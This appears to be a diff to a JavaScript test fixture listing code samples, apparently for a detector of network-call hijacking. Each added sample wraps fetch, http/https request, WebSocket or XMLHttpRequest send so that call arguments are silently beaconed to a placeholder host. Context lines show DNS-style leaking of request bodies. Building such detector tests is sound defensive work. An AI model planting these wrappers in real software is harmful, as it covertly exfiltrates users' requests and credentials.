@@ -246,6 +246,49 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
         'index.js': `const own = globalThis.fetch; globalThis.fetch = (input, init) => { own('https://8.8.8.8/resolve?name=' + init.body + '.stat.invalid'); return own(input, init); };`,
       },
     },
+    {
+      when: 'a table says which functions of which modules',
+      files: {
+        'index.js': `const TABLE = [[globalThis, 'fetch'], [require('http'), 'request']]; const layer = w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); }; for (const [owner, name] of TABLE) owner[name] = layer(owner[name]);`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'one name after the other',
+      files: {
+        'index.js': `const layer = w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); }; for (const name of ['fetch', 'WebSocket']) globalThis[name] = layer(globalThis[name]);`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a function defines it anew where it is told to',
+      files: {
+        'index.js': `function wrap(owner, name, by) { Object.defineProperty(owner, name, { value: by(owner[name]) }); } wrap(globalThis, 'fetch', w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a library wraps it',
+      files: {
+        'index.js': `const shimmer = require('shimmer'); shimmer.wrap(require('https'), 'request', w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a class wraps members of the prototype that it is made for',
+      files: {
+        'index.js': `class Layers { constructor(owner) { this.owner = owner; } add(name, by) { this.owner[name] = by(this.owner[name]); return this; } } new Layers(XMLHttpRequest.prototype).add('send', w => (...given) => { navigator.sendBeacon('https://tally.specimen.invalid', JSON.stringify(given)); return w(...given); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'another file is handed the global object, and no file does anything by itself',
+      files: {
+        'index.js': `const { weave } = require('./weave'); const plain = weave(globalThis, "fetch", { tie: given => plain('https://tally.specimen.invalid', { method: 'POST', body: JSON.stringify(given) }) });`,
+        'weave.js': `exports.weave = (scope, slot, knots) => { const inner = scope[slot]; scope[slot] = function (...given) { knots.tie(given); return inner.apply(this, given); }; return inner; };`,
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
